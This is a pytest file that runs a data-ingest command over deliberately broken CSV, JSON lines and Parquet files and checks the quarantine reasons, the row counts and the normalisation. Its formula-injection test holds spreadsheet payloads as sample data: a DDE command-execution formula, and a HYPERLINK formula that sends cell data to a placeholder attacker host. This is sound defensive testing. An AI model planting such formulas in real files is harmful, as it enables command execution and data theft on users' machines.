"""Bad input, as real exports bring it, through the real ingest (`funnelhouse ingest`).

Every file of ``tests/corpus/`` plus files generated here at runtime (the big ones — 1 MB
fields, 10,000 levels of nesting, million-element arrays — and the ones that cannot be read
at all, which ``test_ingest`` must not meet in the corpus) go into one landing zone; one run
of the command line loads them. Per file the tests check: no traceback, an unreadable file
named with its problem on one line, rows read = loaded + quarantined, which rows were
quarantined and why, and which survived and how they were normalised.

Dates: an event time, and a record's own dates (a contact's ``date_added``,
``date_modified``, ``date_identified``, ``last_active``; a catalog item's ``created_at``),
must lie between 1995-01-01 and one day after the load. 1970-01-01 (epoch zero: ``0``) and
2100-01-01 are unit or placeholder mistakes: such a row is quarantined with the value, like
an unparseable one. A value without an offset is UTC; offsets are converted to UTC.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import polars as pl
import pytest

from ingest.home import Home
from tests.conftest import CORPUS, query

FUNNELHOUSE = str(Path(sys.executable).with_name("funnelhouse"))
MB = 1 << 20
DEPTH = 10_000
HUGE = 1_000_000
T0 = datetime(2026, 10, 1, 7, 0)  # the instant most corpus timestamps spell
EPOCH_1790 = datetime(2026, 9, 21, 14, 13, 20)  # 1790000000 s


@dataclass(frozen=True)
class Loaded:
    read: int
    loaded: int
    quarantined: int


@dataclass(frozen=True)
class Failed:
    error: str


# Every landing file and what ingest must make of it.
EXPECTED: dict[str, Loaded | Failed] = {
    # --- the corpus: CSV dialects, encodings, broken rows
    "contacts/bom_semicolon_crlf.csv": Loaded(2, 2, 0),
    "contacts/latin1.csv": Loaded(2, 2, 0),
    "contacts/windows1252.csv": Loaded(2, 2, 0),
    "contacts/utf16.csv": Loaded(1, 1, 0),
    "contacts/mixed_problems.csv": Loaded(8, 3, 5),
    "contacts/ragged.csv": Loaded(5, 3, 2),
    "contacts/stray_quotes.csv": Loaded(4, 2, 2),
    "contacts/formula_injection.csv": Loaded(6, 6, 0),
    "contacts/emails.csv": Loaded(19, 6, 13),
    "contacts/timestamps.csv": Loaded(22, 16, 6),
    "contacts/empty.csv": Loaded(0, 0, 0),
    "contacts/header_only.csv": Loaded(0, 0, 0),
    "companies/companies_bad.csv": Loaded(3, 1, 2),
    "catalogs/emails/emails.csv": Loaded(3, 1, 2),
    # --- the corpus: JSON lines
    "events/segment_mixed.jsonl": Loaded(17, 7, 10),
    "events/times.jsonl": Loaded(16, 9, 7),
    "events/broken_lines.jsonl": Loaded(10, 2, 8),
    "events/wrong_types.jsonl": Loaded(13, 3, 10),
    "events/duplicate_ids.jsonl": Loaded(4, 4, 0),
    "events/not_utf8.jsonl": Loaded(3, 2, 1),
    "events/empty.jsonl": Loaded(0, 0, 0),
    "events/blank_lines.jsonl": Loaded(0, 0, 0),
    # --- generated: big and deep
    "contacts/big_fields.csv": Loaded(4, 2, 2),
    "contacts/deep.jsonl": Loaded(2, 2, 0),
    "events/big_field.jsonl": Loaded(1, 1, 0),
    "events/deep_nesting.jsonl": Loaded(3, 3, 0),
    "events/huge_arrays.jsonl": Loaded(3, 2, 1),
    "events/near_future.jsonl": Loaded(2, 1, 1),
    # --- generated: Parquet
    "events/wrong_types.parquet": Loaded(2, 2, 0),
    "contacts/no_rows.parquet": Loaded(0, 0, 0),
    "events/zero.parquet": Failed("not a Parquet file: it is empty (0 bytes)"),
    "events/truncated.parquet": Failed(
        "not a readable Parquet file: parquet: File out of specification: "
        "The file must end with PAR1 or PARE"
    ),
    # --- generated: not what the name says
    "contacts/excel_renamed.csv": Failed(
        "not a CSV file: it is a zip archive (an Excel .xlsx workbook?)"
    ),
    "contacts/random_bytes.csv": Failed("not a CSV file: it is binary data, not text"),
    "contacts/export.xlsx": Failed(
        "unsupported file type '.xlsx' (use CSV, JSON lines or Parquet)"
    ),
    "events/one_array.json": Failed(
        "not JSON lines: the file is one JSON array of 2 values; write one JSON object per line"
    ),
    "events/pretty.json": Failed(
        "not JSON lines: the file is one JSON object written over several lines; "
        "write one JSON object per line"
    ),
    "events/utf16.jsonl": Failed(
        "not a readable JSON lines file: it is UTF-16 text (JSON lines must be UTF-8)"
    ),
}


def _page(message_id: str, **extra) -> dict:
    return {
        "type": "page",
        "messageId": message_id,
        "anonymousId": "anon-g",
        "timestamp": "2026-10-01T07:00:00Z",
        **extra,
    }


def _nested_object(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def _write_generated(landing: Path, now: datetime) -> None:
    def write(relative: str, data: str | bytes) -> None:
        path = landing / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)

    def lines(*objects: dict | str) -> str:
        return "".join((o if isinstance(o, str) else json.dumps(o)) + "\n" for o in objects)

    quoted_mb = '"' + 'a,"";b\n' * (MB // 8) + 'end"'  # separators, quotes, newlines inside
    write(
        "contacts/big_fields.csv",
        "firstname,lastname,email,city\n"
        f"{'x' * MB},Big,big@example.com,Rome\n"
        f"Quoted,Big,quoted@example.com,{quoted_mb}\n"
        f"{'y' * MB},Bad,not-an-email,Oslo\n"
        f"Long,Email,{'e' * MB}@example.com,Bern\n",
    )
    write(
        "contacts/deep.jsonl",
        f'{{"email":"deep@example.com","preferences":{_nested_object(DEPTH)}}}\n'
        '{"email":"flat@example.com","firstname":"Flat"}\n',
    )
    write("events/big_field.jsonl", lines(_page("g-big", properties={"note": "n" * MB})))
    write(
        "events/deep_nesting.jsonl",
        f'{{"type":"page","messageId":"g-deep-object","anonymousId":"anon-g",'
        f'"timestamp":"2026-10-01T07:00:00Z","properties":{{"tree":{_nested_object(DEPTH)}}}}}\n'
        f'{{"type":"page","messageId":"g-deep-array","anonymousId":"anon-g",'
        f'"timestamp":"2026-10-01T07:00:00Z","properties":{{"x":{"[" * DEPTH}{"]" * DEPTH}}}}}\n'
        + lines(_page("g-shallow")),
    )
    write(
        "events/huge_arrays.jsonl",
        lines(
            _page("g-huge", properties={"ids": list(range(HUGE))}),
            json.dumps(list(range(HUGE))),  # a line that is an array, not a call
            _page("g-after"),
        ),
    )
    write(
        "events/near_future.jsonl",
        lines(
            _page("g-soon", timestamp=(now + timedelta(hours=12)).isoformat()),
            _page("g-too-late", timestamp=(now + timedelta(days=2)).isoformat()),
        ),
    )
    pl.DataFrame(
        {
            "event_id": [1, 2],
            "event_type": ["page_hit", "email_open"],
            "occurred_at": [1790000000, 1790000000000],  # epoch seconds and milliseconds
            "anonymous_id": [True, False],
            "properties": [{"ids": [1, 2]}, {"ids": []}],
        }
    ).write_parquet(landing / "events" / "wrong_types.parquet")
    pl.DataFrame(schema={"email": pl.String, "firstname": pl.String}).write_parquet(
        landing / "contacts" / "no_rows.parquet"
    )
    good = landing / "events" / "wrong_types.parquet"
    write("events/zero.parquet", b"")
    write("events/truncated.parquet", good.read_bytes()[: good.stat().st_size // 2])
    write(
        "contacts/excel_renamed.csv", b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml" + bytes(64)
    )
    write("contacts/random_bytes.csv", random.Random(7).randbytes(4096))
    write("contacts/export.xlsx", b"PK\x03\x04")
    write("events/one_array.json", json.dumps([_page("g-a1"), _page("g-a2")], indent=1))
    write("events/pretty.json", json.dumps(_page("g-p"), indent=2))
    write("events/utf16.jsonl", lines(_page("g-u16")).encode("utf-16"))


@pytest.fixture(scope="module")
def ingested(tmp_path_factory):
    """One landing zone with every bad file, loaded by `funnelhouse ingest`."""
    home = Home.resolve(tmp_path_factory.mktemp("bad-input") / "home").ensure()
    for path in CORPUS.rglob("*"):
        if path.is_file():
            target = home.landing / path.relative_to(CORPUS)
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, target)
    now = datetime.now(UTC).replace(tzinfo=None)
    _write_generated(home.landing, now)
    completed = subprocess.run(
        [FUNNELHOUSE, "ingest", "--home", str(home.root)], capture_output=True, text=True
    )
    return home, completed


def quarantined(home: Home, file: str) -> dict[int, str]:
    return dict(query(home, f"select source_row, reason from raw.quarantine where file = '{file}'"))


def contacts(home: Home, file: str, columns: str = "email") -> list[tuple]:
    return query(
        home,
        f"select _source_row, {columns} from raw.contacts where _source = '{file}'"
        " order by _source_row",
    )


def events(home: Home, file: str, columns: str = "event_id, occurred_at") -> list[tuple]:
    return query(
        home,
        f"select {columns} from raw.events where _source = '{file}' order by _source_row",
    )


# --- every file -------------------------------------------------------------------------------


def test_the_command_reports_every_unreadable_file_on_one_line_without_a_traceback(ingested):
    home, completed = ingested
    output = completed.stdout + completed.stderr
    assert "Traceback" not in output, output[-4000:]
    assert completed.returncode == 1, output[-4000:]  # files could not be read: status 1
    for file, expected in EXPECTED.items():
        if isinstance(expected, Failed):
            assert f"error {file}: {expected.error}" in completed.stdout, file
    failed = sum(isinstance(e, Failed) for e in EXPECTED.values())
    assert f", {failed} failed" in " ".join(completed.stdout.split())


def test_every_file_reconciles_or_fails_with_its_problem_named(ingested):
    home, _ = ingested
    ledger = {
        path: rest
        for path, *rest in query(
            home,
            "select path, status, rows_read, rows_loaded, rows_quarantined, error from raw._loads",
        )
    }
    assert set(ledger) == set(EXPECTED)  # every file is in the ledger, nothing else
    in_quarantine = dict(query(home, "select file, count(*) from raw.quarantine group by file"))
    for file, expected in EXPECTED.items():
        status, read, loaded, bad, error = ledger[file]
        if isinstance(expected, Failed):
            assert (status, error) == ("failed", expected.error), file
            assert (read, loaded, bad) == (0, 0, 0), file
        else:
            assert status == "loaded" and error is None, (file, error)
            assert read == loaded + bad, file
            assert Loaded(read, loaded, bad) == expected, file
            assert in_quarantine.get(file, 0) == bad, file
    # nothing of a failed file reaches a table
    for table in ("contacts", "events"):
        sources = {s for (s,) in query(home, f"select distinct _source from raw.{table}")}
        assert not {f for f, e in EXPECTED.items() if isinstance(e, Failed)} & sources


# --- CSV: encodings, dialects, broken rows --------------------------------------------------


def test_encodings_are_decoded(ingested):
    home, _ = ingested
    assert contacts(home, "contacts/windows1252.csv", "firstname, lastname, city") == [
        (2, "René", "“Ren” Müller", "Besançon"),  # Windows-1252: curly quotes, €, dashes
        (3, "Zoë", "O’Brien – Jr", "€-City"),
    ]
    assert contacts(home, "contacts/utf16.csv", "firstname, email, city") == [
        (2, "Änne", "anne@example.com", "Zürich")
    ]
    assert contacts(home, "contacts/latin1.csv", "firstname, city") == [
        (2, "Jürgen", "München"),
        (3, "François", "Orléans"),
    ]
    assert contacts(home, "contacts/bom_semicolon_crlf.csv", "firstname, city") == [
        (2, "José", "Málaga"),  # the BOM is not part of the first column's name
        (3, "Anna", "Köln\r\nInnenstadt"),  # a quoted newline (CRLF) is kept
    ]


def test_ragged_rows_and_stray_quotes_are_quarantined_one_by_one(ingested):
    home, _ = ingested
    assert quarantined(home, "contacts/ragged.csv") == {
        2: "missing columns: Expected Number of Columns: 3 Found: 2",
        3: "too many columns: Expected Number of Columns: 3 Found: 4",
    }
    assert contacts(home, "contacts/ragged.csv", "firstname, city") == [
        (4, "Fine", "Köln"),
        (5, "Empty", None),  # empty cells are missing values, not a broken row
        (6, "Last", "No newline at the end"),
    ]
    # A quote inside an unquoted value, and one left open at the end of the file: DuckDB's
    # sniffer gives up on such a file, so it is read the RFC 4180 way and only those rows go.
    stray = "unquoted value: Value with unterminated quote found."
    assert quarantined(home, "contacts/stray_quotes.csv") == {3: stray, 5: stray}
    assert contacts(home, "contacts/stray_quotes.csv", "email, city") == [
        (2, "ok@example.com", "Rome"),
        (4, "fine@example.com", "Bern, CH"),
    ]
    rows = query(
        home,
        "select source_row, raw_text from raw.quarantine where file = 'contacts/stray_quotes.csv'"
        " order by 1",
    )
    assert rows == [(3, 'Stray,"stray"@example.com,Oslo'), (5, 'Open,"open@example.com,Paris')]


def test_formula_text_is_stored_as_data_and_only_surrounding_whitespace_trimmed(ingested):
    home, _ = ingested
    # Ingest keeps what the export says; the dashboards' CSV export neutralises formulas
    # (tests/test_injection.py).
    assert contacts(home, "contacts/formula_injection.csv", "firstname, company") == [
        (2, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"x")'),
        (3, "+1+1", "+cmd"),
        (4, "-2+3", "-1"),
        (5, "@SUM(A1:A9)", "@x"),
        (6, "=1+1", "x"),  # a leading tab is whitespace around the value
        (7, "=1+1", "x"),  # so is a leading carriage return
    ]


def test_emails_are_trimmed_lower_cased_and_malformed_ones_quarantined(ingested):
    home, _ = ingested
    assert contacts(home, "contacts/emails.csv", "firstname, email") == [
        (2, "Padded", "ann@example.com"),
        # the same address in other cases: raw keeps every row as it arrived (all three
        # normalised to one address); staging keeps one contact per email
        (3, "Lower", "ann@example.com"),
        (4, "Upper", "ann@example.com"),
        (5, "Plus", "first.last+tag@sub.example.co.uk"),
        (6, "Unicode", "jürgen@münchen.de"),
        (7, "NoEmail", None),  # no email: a contact known by its row (or external id)
    ]
    long_preview = "a" * 80 + "…"
    assert quarantined(home, "contacts/emails.csv") == {
        8: "email: malformed email 'two@@example.com'",
        9: "email: malformed email 'has space@example.com'",
        10: "email: malformed email 'a@b@example.com'",
        11: "email: malformed email 'noat.example.com'",
        12: "email: malformed email 'trailing.@example.com'",
        13: "email: malformed email '.lead@example.com'",
        14: "email: malformed email 'a..b@example.com'",
        15: "email: malformed email 'user@localhost'",
        16: "email: malformed email 'user@example.c'",
        17: "email: malformed email 'user@exa_mple.com'",
        18: """email: malformed email '"q"@example.com'""",
        19: f"email: malformed email '{long_preview}'",  # 262 characters: over 254
        20: "email: malformed email '<ann@example.com>'",
    }


def test_contact_dates_in_every_spelling_land_on_utc_and_1970_or_2100_is_quarantined(ingested):
    home, _ = ingested
    survivors = dict(
        (email, added)
        for _, email, added in contacts(home, "contacts/timestamps.csv", "email, date_added")
    )
    assert survivors == {
        "iso-offset@example.com": T0,  # 09:00+02:00
        "iso-z@example.com": T0,
        "iso-fraction@example.com": T0.replace(microsecond=250_000),
        "naive@example.com": T0,  # no offset: UTC
        "naive-minutes@example.com": T0,
        "offset-no-colon@example.com": T0,  # 02:00-0500
        "utc-word@example.com": T0,
        "rfc2822@example.com": T0,  # Thu, 01 Oct 2026 09:00:00 +0200
        "mautic-us@example.com": T0,  # 10/1/26 7:00, month first as Mautic exports
        "german@example.com": T0,  # 01.10.2026 07:00
        "date-only@example.com": T0.replace(hour=0),
        "epoch-seconds@example.com": EPOCH_1790,
        "epoch-millis@example.com": EPOCH_1790,  # too large for seconds: milliseconds
        "epoch-fraction@example.com": EPOCH_1790.replace(microsecond=500_000),
        "boundary-1995@example.com": datetime(1995, 1, 1),
        "no-date@example.com": None,
    }
    window = "date_added: timestamp outside 1995-01-01 … load time + 1 day: "
    assert quarantined(home, "contacts/timestamps.csv") == {
        17: window + "0",
        18: window + "1970-01-01 00:00:00",
        19: window + "1994-12-31 23:59:59",
        20: window + "2100-01-01",
        21: "date_added: unparseable timestamp '2026-10-01 09:00 CEST'",
        22: "date_added: unparseable timestamp 'yesterday'",
    }


def test_big_csv_fields_load_whole_and_quarantine_keeps_a_bounded_preview(ingested):
    home, _ = ingested
    rows = contacts(home, "contacts/big_fields.csv", "email, length(firstname), city")
    assert [r[:3] for r in rows] == [(2, "big@example.com", MB), (3, "quoted@example.com", 6)]
    assert rows[1][3] == 'a,";b\n' * (MB // 8) + "end"  # quotes, separators, newlines kept
    reasons = quarantined(home, "contacts/big_fields.csv")
    assert reasons == {
        4: "email: malformed email 'not-an-email'",
        5: f"email: malformed email '{'e' * 80}…'",  # the reason shows 80 characters
    }
    texts = query(
        home,
        "select length(raw_text), raw_text like '% …[truncated]' from raw.quarantine"
        " where file = 'contacts/big_fields.csv'",
    )
    assert texts == [(10_000 + len(" …[truncated]"), True)] * 2  # not a megabyte per row


def test_empty_files_load_nothing_and_fail_nothing(ingested):
    home, _ = ingested
    for file in (
        "contacts/empty.csv",
        "contacts/header_only.csv",
        "events/empty.jsonl",
        "events/blank_lines.jsonl",
        "contacts/no_rows.parquet",
    ):
        assert query(home, f"select status from raw._loads where path = '{file}'") == [("loaded",)]


# --- JSON lines -------------------------------------------------------------------------------


def test_event_times_in_every_spelling_and_the_time_window(ingested):
    home, _ = ingested
    assert dict(events(home, "events/times.jsonl")) == {
        "t-iso-z": T0,
        "t-offset": T0,  # 12:30+05:30
        "t-naive": T0,
        "t-epoch-s": EPOCH_1790,
        "t-epoch-ms": EPOCH_1790,
        "t-epoch-ms-text": EPOCH_1790,
        "t-epoch-us": EPOCH_1790,
        "t-original": T0,  # originalTimestamp when timestamp is absent
        "t-1995": datetime(1995, 1, 1),  # the window's first instant
    }
    window = "occurred_at: timestamp outside 1995-01-01 … load time + 1 day: "
    assert quarantined(home, "events/times.jsonl") == {
        10: window + "1970-01-01T00:00:00Z",
        11: window + "0",
        12: window + "1994-12-31T23:59:59Z",
        13: window + "2100-01-01T00:00:00Z",
        14: window + "4102444800000",  # 2100 in epoch milliseconds
        15: "occurred_at: missing",
        16: "occurred_at: unparseable timestamp 'soon'",
    }
    # load time + 1 day: 12 hours ahead is a clock skew that is let in, 2 days is not
    assert [e for e, _ in events(home, "events/near_future.jsonl")] == ["g-soon"]
    assert list(quarantined(home, "events/near_future.jsonl")) == [2]


def test_broken_json_lines_are_quarantined_line_by_line(ingested):
    home, _ = ingested
    # a byte order mark before the first object, CRLF line ends, blank lines: not problems
    assert [e for e, _ in events(home, "events/broken_lines.jsonl")] == ["b-1", "b-4"]
    assert quarantined(home, "events/broken_lines.jsonl") == {
        2: "broken JSON",  # an object cut short
        3: "broken JSON",  # single quotes
        5: "broken JSON",  # two objects on one line
        6: "JSON value is not an object",  # null
        7: "JSON value is not an object",
        8: "JSON value is not an object",
        9: "JSON value is not an object",
        12: "broken JSON",  # the last line, cut mid-key without a newline
    }
    # a line that is not UTF-8 goes alone; the lines around it load
    assert [e for e, _ in events(home, "events/not_utf8.jsonl")] == ["b-5", "b-6"]
    assert quarantined(home, "events/not_utf8.jsonl") == {
        2: "not UTF-8 text (byte 54 of the line): JSON lines must be UTF-8"
    }


def test_wrong_types_are_quarantined_or_read_as_their_text(ingested):
    home, _ = ingested
    # numbers and brackets inside text are fine as ids
    assert events(home, "events/wrong_types.jsonl", "event_id, event_type, anonymous_id") == [
        ("123", "page_hit", "anon-w"),
        ("w-2", "page_hit", "456"),
        ("w-13", "beta_feature_used", "[anon]"),
    ]
    assert quarantined(home, "events/wrong_types.jsonl") == {
        3: """occurred_at: unparseable timestamp '{"at":"2026-10-01"}'""",
        4: "occurred_at: unparseable timestamp 'true'",
        5: "event: expected text, got a JSON object",
        6: "unsupported Segment call type '123'",
        7: """properties: not a JSON object '"not an object"'""",
        8: "malformed email '42'",
        9: "anonymousId: expected text, got a JSON array",
        10: "event_id: missing",
        11: "event_type: missing",
        12: "messageId: expected text, got a JSON object; userId: expected text, got a JSON object",
    }
    # Parquet columns of other types are read as their text; epoch numbers as times
    assert events(
        home, "events/wrong_types.parquet", "event_id, occurred_at, anonymous_id, properties"
    ) == [
        ("1", EPOCH_1790, "true", '{"ids":[1,2]}'),
        ("2", EPOCH_1790, "false", '{"ids":[]}'),
    ]


def test_duplicate_event_ids_are_all_kept_in_raw(ingested):
    home, _ = ingested
    # raw keeps every arrival with its row number; fct_events keeps one row per event_id
    assert events(home, "events/duplicate_ids.jsonl", "_source_row, event_id, occurred_at") == [
        (1, "dup-1", T0),
        (2, "dup-1", T0),
        (3, "dup-1", T0),
        (4, "dup-1", T0 + timedelta(days=1)),
    ]


def test_deep_nesting_and_huge_arrays_load_whole(ingested):
    home, _ = ingested
    deep = events(
        home,
        "events/deep_nesting.jsonl",
        "event_id, length(properties), json_extract(properties, '$.tree' || repeat('.a', 3))",
    )
    assert [(e, n) for e, n, _ in deep] == [
        ("g-deep-object", len('{"tree":' + _nested_object(DEPTH) + "}")),
        ("g-deep-array", len('{"x":' + "[" * DEPTH + "]" * DEPTH + "}")),
        ("g-shallow", 2),
    ]
    assert deep[0][2] == _nested_object(DEPTH - 3)
    huge = events(
        home, "events/huge_arrays.jsonl", "event_id, json_array_length(properties, '$.ids')"
    )
    assert huge == [("g-huge", HUGE), ("g-after", None)]
    [(row, reason, length)] = query(
        home,
        "select source_row, reason, length(raw_text) from raw.quarantine"
        " where file = 'events/huge_arrays.jsonl'",
    )
    assert (row, reason, length) == (2, "JSON value is not an object", 10_000 + 13)
    assert events(home, "events/big_field.jsonl", "event_id, length(properties->>'note')") == [
        ("g-big", MB)
    ]
    nested = contacts(home, "contacts/deep.jsonl", "email, json_keys(custom_fields)")
    assert nested == [
        (1, "deep@example.com", ["preferences"]),  # kept, as the text of its JSON
        (2, "flat@example.com", []),
    ]
